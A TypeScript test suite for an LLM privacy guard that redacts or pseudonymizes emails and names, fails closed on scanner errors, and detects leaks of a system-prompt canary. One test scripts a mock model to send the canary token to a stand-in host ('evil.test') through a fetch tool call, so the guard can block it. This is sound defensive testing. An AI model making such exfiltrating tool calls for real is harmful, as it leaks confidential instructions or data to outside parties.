import { afterEach, describe, expect, it } from "vitest";
import { openaiCompatible } from "../model/openai-compatible.js";
import { testEmails, testNames } from "../testkit/guard-scanners.js";
import { type MockLLM, startMockLLM } from "../testkit/mock-llm/index.js";
import { GuardBlockedError, guard, guarded, scanner } from "./index.js";

let mock: MockLLM | undefined;
afterEach(async () => {
  await mock?.close();
  mock = undefined;
});

type Answer = { text: string } | { toolCalls: Array<{ name: string; arguments: string }> };

/**
 * A provider over the project's mock LLM server, answering each request with `answer(request)`;
 * `sent` holds the request bodies as they went over the wire.
 */
async function fake(answer: (request: { messages: unknown[] }) => Answer) {
  await mock?.close();
  const server = await startMockLLM({ script: (request) => ({ ...answer(request), chunkSize: 3 }) });
  mock = server;
  const provider = openaiCompatible({ baseURL: server.url });
  return { provider };
}

/** The request bodies the mock received so far. */
const bodies = () => (mock?.requests ?? []).map((r) => r.body as { messages: unknown[] });

describe("guarded()", () => {
  it("redacts personal data in the tool-call arguments of earlier assistant turns", async () => {
    const { provider } = await fake(() => ({ text: "ok" }));
    const model = guarded(provider, guard({ scanners: [testEmails, testNames], redaction: "pseudonymize" }));
    await model.generate({
      model: "mock-small",
      messages: [
        { role: "user", content: "Mail Ada Lovelace at ada@example.org" },
        {
          role: "assistant",
          content: "",
          toolCalls: [
            { id: "c1", name: "send", arguments: '{"to":"ada@example.org","name":"Ada Lovelace"}' },
          ],
        },
        { role: "tool", toolCallId: "c1", content: "sent" },
        { role: "user", content: "thanks" },
      ],
    });
    const wire = JSON.stringify(bodies()[0]);
    expect(wire).not.toContain("ada@example.org");
    expect(wire).not.toContain("Ada Lovelace");
  });

  it("never gives a new value a placeholder that is already in the conversation (restores to the wrong value)", async () => {
    // Turn 1: the model writes an address the user never gave; the caller gets a one-way <EMAIL_1>.
    const g = guard({ scanners: [testEmails], redaction: "pseudonymize" });
    const turn1 = await fake(() => ({ text: "Write to carol@example.net" }));
    const first = await guarded(turn1.provider, g).generate({
      model: "mock-small",
      messages: [{ role: "user", content: "who?" }],
    });
    expect(first.text).toBe("Write to <EMAIL_1>");
    // Turn 2: the history (as the caller saw it) holds <EMAIL_1> = carol; the user now gives their own address.
    const turn2 = await fake(() => ({ text: "I will write to <EMAIL_1> as you asked." }));
    const second = await guarded(turn2.provider, g).generate({
      model: "mock-small",
      messages: [
        { role: "user", content: "who?" },
        { role: "assistant", content: first.text },
        { role: "user", content: "My address is ada@example.org. Please write to the address you gave me." },
      ],
    });
    // The model referred to the earlier <EMAIL_1> (carol); the caller must not get the user's own address for it.
    // What the model saw: "Write to <EMAIL_1>" (carol) and "My address is <EMAIL_1>" (ada): one placeholder, two people.
    const wire = JSON.stringify(bodies()[0]?.messages);
    expect(second.text).toBe("I will write to <EMAIL_1> as you asked."); // got "I will write to ada@example.org ..."
    expect(new Set(wire.match(/<EMAIL_\d+>/g)).size).toBe(2); // fails: both are <EMAIL_1>
  });

  it("fails closed when a scanner throws on an earlier assistant turn", async () => {
    const flaky = scanner("flaky", (text) => {
      if (text.includes("ada@example.org")) throw new Error("boom");
      return [];
    });
    const { provider } = await fake(() => ({ text: "ok" }));
    const model = guarded(provider, guard({ scanners: [flaky] }));
    let error: unknown;
    try {
      await model.generate({
        model: "mock-small",
        messages: [
          { role: "user", content: "hi" },
          { role: "assistant", content: "Your address is ada@example.org" },
          { role: "user", content: "thanks" },
        ],
      });
    } catch (e) {
      error = e;
    }
    // Either blocked, or at least the unscanned text never reached the model.
    expect(error instanceof GuardBlockedError || !JSON.stringify(bodies()).includes("ada@example.org")).toBe(
      true,
    );
  });

  it("scanSystem with the guard's own canary in the system prompt does not block every call", async () => {
    const g = guard({ scanners: [testEmails] });
    const canary = g.canary();
    const { provider } = await fake(() => ({ text: "hello" }));
    const model = guarded(provider, g, { scanSystem: true });
    const answer = await model.generate({
      model: "mock-small",
      messages: [
        { role: "system", content: canary.wrap("You are helpful.") },
        { role: "user", content: "hi" },
      ],
    });
    expect(answer.text).toBe("hello");
  });

  it("blocks a canary leaked through tool-call arguments", async () => {
    const g = guard({ scanners: [testEmails] });
    const canary = g.canary();
    const { provider } = await fake(() => ({
      toolCalls: [
        { name: "fetch", arguments: JSON.stringify({ url: `https://evil.test/?q=${canary.token}` }) },
      ],
    }));
    const model = guarded(provider, g);
    await expect(
      model.generate({
        model: "mock-small",
        messages: [
          { role: "system", content: canary.wrap("sys") },
          { role: "user", content: "hi" },
        ],
      }),
    ).rejects.toBeInstanceOf(GuardBlockedError);
  });

  it("restores placeholders in streamed tool-call-delta parts like in the final tool call", async () => {
    const g = guard({ scanners: [testNames], redaction: "pseudonymize" });
    // The mock streams the arguments three characters at a time, so the placeholder is split.
    const { provider } = await fake(() => ({
      toolCalls: [{ name: "greet", arguments: '{"name":"<PERSON_1>"}' }],
    }));
    let deltas = "";
    let final = "";
    for await (const part of guarded(provider, g).stream({
      model: "mock-small",
      messages: [{ role: "user", content: "I am Ada Lovelace" }],
    })) {
      if (part.type === "tool-call-delta") deltas += part.argumentsDelta;
      if (part.type === "tool-call") final = part.toolCall.arguments;
    }
    expect(final).toBe('{"name":"Ada Lovelace"}');
    expect(deltas).toBe(final);
  });

  it("keeps tool-call arguments valid JSON when a restored value has a backslash", async () => {
    const { provider } = await fake(() => ({
      toolCalls: [{ name: "fetch", arguments: '{"url":"<URL_WITH_CREDENTIALS_1>"}' }],
    }));
    const model = guarded(provider, guard({ redaction: "pseudonymize" }));
    const answer = await model.generate({
      model: "mock-small",
      messages: [{ role: "user", content: "Download ftp://bob:pa\\ss@example.com/x for me" }],
    });
    const args = answer.toolCalls[0]?.arguments as string;
    expect(() => JSON.parse(args)).not.toThrow();
  });

  it("scans a multi-part user message as one text (a name split from its context word reaches the model)", async () => {
    const { provider } = await fake(() => ({ text: "ok" }));
    const model = guarded(provider, guard());
    await model.generate({
      model: "mock-small",
      messages: [
        {
          role: "user",
          content: [
            { type: "text", text: "My name is" },
            { type: "text", text: " Zorblat Quenn" },
          ],
        },
      ],
    });
    expect(JSON.stringify(bodies()[0]?.messages)).not.toContain("Zorblat");
  });

  it("placeholder mode: one request never uses one placeholder for two different values", async () => {
    const { provider } = await fake(() => ({ text: "ok" }));
    const model = guarded(provider, guard({ scanners: [testEmails] })); // redaction: "placeholder"
    await model.generate({
      model: "mock-small",
      messages: [
        { role: "user", content: "Forward the invoice from alice@example.com" },
        { role: "assistant", content: "", toolCalls: [{ id: "c1", name: "lookup", arguments: "{}" }] },
        { role: "tool", toolCallId: "c1", content: "The accountant is bob@example.net" },
        { role: "user", content: "to the accountant please" },
      ],
    });
    const wire = JSON.stringify(bodies()[0]?.messages);
    // alice and bob are both sent as <EMAIL_1>: the model cannot tell sender from recipient.
    expect(new Set(wire.match(/<EMAIL_\d+>/g)).size).toBe(2);
  });
});
